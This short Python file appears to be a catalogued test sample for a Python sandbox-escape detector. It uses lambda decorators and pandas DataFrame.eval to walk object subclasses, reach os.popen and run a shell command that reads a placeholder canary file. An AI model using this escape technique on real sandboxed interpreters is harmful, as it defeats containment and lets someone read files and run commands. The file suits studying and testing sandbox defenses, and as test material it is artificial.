# class: decorator_abuse
# technique: @(lambda fn: [frame.agg][0](**{'func': 'eval', 'expr': fn()})) — the decorated function returns expression text that DataFrame.eval runs at definition time
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})


@(lambda fn: [frame.agg][0](**{"func": "eval", "expr": fn(), "local_dict": {"o": [object]}}))
def classes():
    return "@o[0]." + u + "subclasses" + u + "()"


wrap_close = [c for c in classes if "wrap_close" in str(c)][0]


@(lambda fn: [frame.agg][0](**{"func": "eval", "expr": fn(), "local_dict": {"w": [wrap_close]}}))
def stolen():
    return "@w[0]." + u + "init" + u + "." + u + "globals" + u + "['popen']('cat {{CANARY_FILE}}').read()"


df = pd.DataFrame({"stolen": [stolen]})
